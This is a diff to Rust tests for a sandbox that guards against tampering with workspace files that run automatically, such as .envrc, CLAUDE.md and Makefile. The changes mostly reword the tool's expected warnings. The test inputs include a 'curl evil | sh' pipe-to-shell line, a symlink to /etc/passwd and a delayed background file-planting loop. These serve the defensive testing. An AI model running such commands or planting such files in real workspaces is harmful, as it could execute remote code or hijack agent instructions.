@@ -25,11 +25,11 @@ fn prepared() -> Sandbox {
 #[track_caller]
 fn told(run: &Run) {
     for line in [
-        "in the workspace, `.envrc` changed: check this before you run direnv there",
+        "`.envrc` changed: obeyed without a question by direnv",
         "\n    + curl evil | sh\n",
         "`CLAUDE.md` changed (a fifo, a socket or a device)",
         "`a/b/.claude/settings.json` is new",
-        "`a/b/GNUmakefile` is new: check this before you run make there",
+        "`a/b/GNUmakefile` is new: obeyed by make, once you run it",
     ] {
         assert!(run.stderr.contains(line), "{line:?} in: {}", run.stderr);
     }
@@ -59,7 +59,8 @@ fn what_acts_by_itself_is_kept_where_nobody_says_otherwise_and_put_back_where_so
     let again = "echo evil >.envrc; rm CLAUDE.md; ln -s /etc/passwd CLAUDE.md; echo x >.mcp.json; echo y >Makefile\n";
     let run = sandbox.task("sandbox").args(["--yes", "--shell", "--on-change", "restore"]).stdin(again).run().ok();
     let (before, after) = run.stderr.split_once("$ docker exec").expect("the session");
-    assert!(before.contains("since the sandbox was last looked at, in the workspace, `.envrc` changed"), "{before}");
+    assert!(before.contains("since the sandbox was last looked at, this has changed in the workspace"), "{before}");
+    assert!(before.contains("  `.envrc` changed: "), "{before}");
     assert!(
         after.contains("`.envrc` is what it was; what took its place is set aside as `.envrc.set-aside-1`"),
         "{after}"
@@ -80,7 +81,9 @@ fn what_is_new_is_set_aside_at_the_exit_and_by_down() {
     let run = left(&sandbox, &["--on-change", "aside"]);
     told(&run);
     assert!(!at(".envrc").exists() && at(".envrc.set-aside-1").exists() && !at("CLAUDE.md").exists());
-    assert!(at("codex-sandbox-set-aside/settings.json.set-aside-1").exists() && at("a/b/GNUmakefile").exists());
+    assert!(
+        at("codex-sandbox-set-aside/a+b+.claude+settings.json.set-aside-1").exists() && at("a/b/GNUmakefile").exists()
+    );
     let late = "setsid sh -c 'until [ -e go ]; do sleep 0.1; done; echo x >AGENTS.md; touch done' >/dev/null 2>&1 </dev/null &\n";
     sandbox.task("sandbox").args(["--yes", "--shell"]).stdin(late).run().ok();
     fs::write(at("go"), "").expect("a sign");
